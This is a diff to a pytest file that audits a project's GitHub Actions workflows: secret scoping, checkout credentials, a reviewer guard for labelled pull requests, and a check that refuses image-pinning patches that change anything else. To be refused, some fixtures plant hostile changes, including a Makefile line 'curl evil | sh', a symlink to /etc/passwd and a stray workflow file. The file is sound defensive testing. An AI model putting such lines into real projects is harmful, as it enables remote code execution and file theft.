@@ -1,9 +1,15 @@
 """The workflows: pinned, few rights, secrets and inputs only in variables, commands that exist and do what they should."""
 
+import contextlib
+import http.server
+import json
 import os
 import re
+import shutil
 import signal
 import subprocess
+import sys
+import threading
 import time
 from pathlib import Path
 from typing import Any
@@ -11,6 +17,7 @@ from typing import Any
 import pytest
 import typer
 import yaml
+from image_files import NAMES
 
 from pipelines.__main__ import app
 from tests.unit.pipelines.remote.kfp_api_double import KfpApiDouble
@@ -19,6 +26,7 @@ from tests.unit.pipelines.remote.kfp_backend import KfpBackend
 ROOT = Path(__file__).parents[2]
 WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.y*ml"))
 EVALUATE = ROOT / ".github" / "workflows" / "evaluate.yaml"
+PUBLISH = ROOT / ".github" / "workflows" / "publish-images.yaml"
 TOKEN = "planted-token-4711"
 every_workflow = pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
 
@@ -85,6 +93,40 @@ def test_code_of_strangers_gets_no_secrets(path):
 
 
 @every_workflow
+def test_zizmor_finds_nothing_above_low(path):
+    """The auditor's persona: it also reports secrets outside an environment."""
+    zizmor = Path(sys.executable).with_name("zizmor")
+    command = [zizmor, "--offline", "--no-progress", "--persona=auditor", "--min-severity=medium", path]
+    done = subprocess.run(command, capture_output=True, text=True)
+    assert done.returncode == 0, done.stdout + done.stderr
+
+
+@every_workflow
+def test_only_jobs_with_an_environment_name_secrets(path):
+    for name, job in jobs(path).items():
+        named = {found for text in strings(job) for found in re.findall(r"secrets\.(\w+)", text)}
+        assert "environment" in job or not named, f"{name}: {named}"
+
+
+@every_workflow
+def test_a_job_that_may_write_to_the_repository_installs_and_runs_nothing_of_others(path):
+    """Its token would be at hand for every package that a set-up installs."""
+    for name, job in jobs(path).items():
+        if job["permissions"].get("contents") == "write":
+            used = {step["uses"].partition("@")[0] for step in job["steps"] if "uses" in step}
+            assert used <= {"actions/checkout", "actions/download-artifact"}, name
+            for script in (step["run"] for step in job["steps"] if "run" in step):
+                assert not re.search(r"\b(make|pip|uv|npm|python3?|sh|bash|docker)\b", script), name
+
+
+@every_workflow
+def test_no_checkout_leaves_its_token_behind(path):
+    for step in steps(path):
+        if step.get("uses", "").startswith("actions/checkout@"):
+            assert step["with"]["persist-credentials"] is False
+
+
+@every_workflow
 def test_the_commands_and_options_that_scripts_call_exist(path):
     commands = typer.main.get_command(app).commands
     targets = set(re.findall(r"^([a-z0-9-]+):", (ROOT / "Makefile").read_text(), re.MULTILINE))
@@ -105,6 +147,218 @@ def submitted(script: str) -> str:
 
 def line_of(script: str, name: str) -> str:
     return "\n".join(line for line in script.splitlines() if f"-m pipelines {name}" in line)
+
+
+# A label runs the code of a branch with the cluster's keys
+
+
+@contextlib.contextmanager
+def github(answer: bytes, code: int = 200):
+    """An API that gives this answer about every environment; yields its address and the paths that were asked for."""
+    asked = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(code)
+            self.send_header("Content-Length", str(len(answer)))
+            self.end_headers()
+            self.wfile.write(answer)
+
+        def log_message(self, *arguments):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}", asked
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def guarded(tmp_path: Path, api: str, of_default_branch: bool) -> tuple[subprocess.CompletedProcess[str], str]:
+    """Run the guard's step; how it ended, and the environment that it chose."""
+    [script] = [step["run"] for step in jobs(EVALUATE)["guard"]["steps"]]
+    output = tmp_path / "output"
+    output.write_text("")
+    told = {"GITHUB_API_URL": api, "GITHUB_REPOSITORY": "owner/name", "GITHUB_OUTPUT": str(output), "GH_TOKEN": TOKEN}
+    told |= {"OF_DEFAULT_BRANCH": str(of_default_branch).lower(), "no_proxy": "127.0.0.1"}
+    done = subprocess.run(["bash", "-e", "-c", script], env=os.environ | told, capture_output=True, text=True)
+    return done, output.read_text()
+
+
+needs_jq = pytest.mark.skipif(not (shutil.which("jq") and shutil.which("curl")), reason="GitHub's runners have jq and curl")
+REVIEWED = {"protection_rules": [{"type": "required_reviewers", "reviewers": [{"type": "User", "reviewer": {"login": "ada"}}]}]}
+
+
+@needs_jq
+@pytest.mark.parametrize(
+    ("answer", "code"),
+    [
+        ({"message": "Not Found"}, 404),
+        ({"name": "cluster-reviewed", "protection_rules": []}, 200),
+        ({"protection_rules": [{"type": "wait_timer", "wait_timer": 5}, {"type": "branch_policy"}]}, 200),
+        ({"protection_rules": [{"type": "required_reviewers", "reviewers": []}]}, 200),
+    ],
+    ids=["missing", "without rules", "with other rules", "nobody to ask"],
+)
+def test_a_label_is_refused_in_one_line_where_nobody_has_to_agree(tmp_path, answer, code):
+    with github(json.dumps(answer).encode(), code) as (api, asked):
+        done, chosen = guarded(tmp_path, api, of_default_branch=False)
+    assert asked == ["/repos/owner/name/environments/cluster-reviewed"]
+    assert (done.returncode, chosen) == (2, "")
+    assert re.fullmatch(r"::error::the environment cluster-reviewed has no required reviewers; .*\n", done.stdout)
+
+
+@needs_jq
+def test_a_label_waits_for_the_reviewers_and_the_default_branch_for_nobody(tmp_path):
+    with github(json.dumps(REVIEWED).encode()) as (api, asked):
+        done, chosen = guarded(tmp_path, api, of_default_branch=False)
+        assert (done.returncode, chosen) == (0, "environment=cluster-reviewed\n"), done.stderr
+        asked.clear()
+        done, chosen = guarded(tmp_path, api, of_default_branch=True)
+    assert (done.returncode, chosen, asked) == (0, "environment=cluster\n", [])
+
+
+def test_what_runs_with_the_clusters_keys_is_what_the_guard_chose_and_the_commit_that_was_labelled():
+    job = jobs(EVALUATE)["evaluate"]
+    assert (job["needs"], job["environment"]) == ("guard", "${{ needs.guard.outputs.environment }}")
+    assert "if" not in job, "skipped with the guard, and stopped by it"
+    [checkout] = [step for step in job["steps"] if step.get("uses", "").startswith("actions/checkout@")]
+    assert checkout["with"]["ref"] == "${{ github.event.pull_request.head.sha || github.sha }}"
+
+
+# What the compiling job hands to the one that may write
+
+
+DIGESTS = {name: f"ghcr.io/owner/globe-{name}:0.1.0@sha256:{number * 64}" for number, name in zip("abcd", NAMES, strict=True)}
+"""What the build job says that it pushed."""
+
+
+def git(folder: Path, *arguments: str) -> str:
+    identity = ["-c", "user.name=ada", "-c", "user.email=ada@example.org"]
+    return subprocess.run(["git", *identity, *arguments], cwd=folder, check=True, capture_output=True, text=True).stdout
+
+
+def taken(here: Path, patch: Path) -> tuple[int, str, str]:
+    """Take a patch as the workflow's last job does: exit code, what it printed, what it told the next step."""
+    [script] = [step["run"] for step in jobs(PUBLISH)["pin"]["steps"] if step.get("id") == "patch"]
+    output = patch.with_name("output")
+    output.write_text("")
+    told = {"PATCH": str(patch), "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(patch.with_name("summary"))}
+    told |= {name.upper(): reference for name, reference in DIGESTS.items()}
+    done = subprocess.run(["bash", "-e", "-c", script], cwd=here, env=os.environ | told, capture_output=True, text=True)
+    return done.returncode, done.stdout, output.read_text()
+
+
+@pytest.fixture
+def pinning(tmp_path):
+    """A repository, and a function that takes a patch of it."""
+    here = tmp_path / "repository"
+    files = {"images/pins.yaml": "# pins\n", "pipelines/compiled/kfp-2.17/training.yaml": "image: globe-train:0.1.0\n"}
+    files |= {"manifests/serving/kustomization.yaml": "newTag: 0.1.0\n", "Makefile": "demo:\n"}
+    for name, text in files.items():
+        (here / name).parent.mkdir(parents=True, exist_ok=True)
+        (here / name).write_text(text)
+    commit_all(here)
+
+    def pinning(change) -> tuple[int, str, str]:
+        pins = "".join(f"{name}: {reference}\n" for name, reference in DIGESTS.items())
+        (here / "images" / "pins.yaml").write_text(f"# pins\n{pins}")
+        change(here)
+        git(here, "add", "--all", "--force")
+        patch = tmp_path / "pins.patch"
+        patch.write_text(git(here, "diff", "--cached", "--no-renames", "--full-index"))
+        git(here, "reset", "-q", "--hard")
+        return taken(here, patch)
+
+    return pinning
+
+
+def commit_all(folder: Path) -> None:
+    git(folder, "init", "-q", ".")
+    git(folder, "add", "--all")
+    git(folder, "commit", "-q", "-m", "base")
+
+
+def test_what_the_compiling_job_hands_over_is_taken(tmp_path):
+    here, patch = tmp_path / "repository", tmp_path / "pins.patch"
+    for name in ("images", "components", "pipelines", "manifests"):
+        shutil.copytree(ROOT / name, here / name, ignore=shutil.ignore_patterns("__pycache__"))
+    shutil.copy(ROOT / "pyproject.toml", here)
+    commit_all(here)
+    (here / ".venv").symlink_to(sys.prefix)
+    [script] = [step["run"] for step in jobs(PUBLISH)["compile"]["steps"] if "images/pin.py" in step.get("run", "")]
+    told = {name.upper(): reference for name, reference in DIGESTS.items()}
+    told["PYTHONPATH"] = os.pathsep.join([str(here / "components"), str(here)])
+    subprocess.run(["bash", "-e", "-c", script], cwd=here, env=os.environ | told, check=True, capture_output=True)
+    (here / "pins.patch").rename(patch)
+    git(here, "reset", "-q", "--hard")
+    assert taken(here, patch) == (0, "", "changed=true\n")
+    changed = git(here, "diff", "--cached", "--name-only").splitlines()
+    assert {"images/pins.yaml", "pipelines/compiled/kfp-2.17/training.yaml", "manifests/pipelines/kfp-2.17/training.yaml"} <= set(
+        changed
+    )
+
+
+def test_a_patch_of_pins_and_compiled_pipelines_is_taken(pinning):
+    def pin(here: Path) -> None:
+        (here / "manifests" / "serving" / "kustomization.yaml").write_text(f"digest: sha256:{'c' * 64}\n")
+        for folder in ("pipelines/compiled/kfp-2.17", "manifests/pipelines/kfp-2.17"):
+            (here / folder).mkdir(parents=True, exist_ok=True)
+            (here / folder / "training.yaml").write_text(f"image: {DIGESTS['train']}\n")
+
+    assert pinning(pin) == (0, "", "changed=true\n")
+
+
+def other_digest(here: Path) -> None:
+    (here / "pipelines" / "compiled" / "kfp-2.17" / "training.yaml").write_text(f"image: evil/x@sha256:{'e' * 64}\n")
+
+
+def other_pin(here: Path) -> None:
+    pins = here / "images" / "pins.yaml"
+    pins.write_text(pins.read_text().replace("owner/globe-train", "evil/globe-train"))
+
+
+def link(here: Path) -> None:
+    compiled = here / "pipelines" / "compiled" / "kfp-2.17" / "training.yaml"
+    compiled.unlink()
+    compiled.symlink_to("/etc/passwd")
+
+
+def program(here: Path) -> None:
+    (here / "pipelines" / "compiled" / "kfp-2.17" / "training.yaml").chmod(0o755)
+
+
+def workflow(here: Path) -> None:
+    (here / ".github" / "workflows").mkdir(parents=True)
+    (here / ".github" / "workflows" / "mine.yaml").write_text("on: push\n")
+
+
+@pytest.mark.parametrize(
+    ("change", "told"),
+    [
+        (workflow, "changes what pinning never changes.*mine.yaml"),
+        (
+            lambda here: (here / "Makefile").write_text("demo:\n\tcurl evil | sh\n"),
+            "changes what pinning never changes.*Makefile",
+        ),
+        (
+            lambda here: (here / "images" / "pins.yaml.sh").write_text("evil\n"),
+            "changes what pinning never changes.*pins.yaml.sh",
+        ),
+        (lambda here: (here / "manifests" / "rbac.yaml").write_text("evil\n"), "changes what pinning never changes.*rbac.yaml"),
+        (link, "changes what pinning never changes.*training.yaml"),
+        (program, "changes what pinning never changes.*training.yaml"),
+        (other_digest, "names an image that was not built: .*evil"),
+        (other_pin, "does not name the images that were built"),
+    ],
+)
+def test_a_patch_that_does_more_than_pin_is_refused_in_one_line(pinning, change, told):
+    code, out, chosen = pinning(change)
+    assert (code, chosen) == (1, "")
+    assert re.fullmatch(rf"::error::(the patch|images/pins.yaml) {told}.*\n", out)
 
 
 def test_evaluation_is_set_up_with_the_same_locked_installer_as_everything_else():
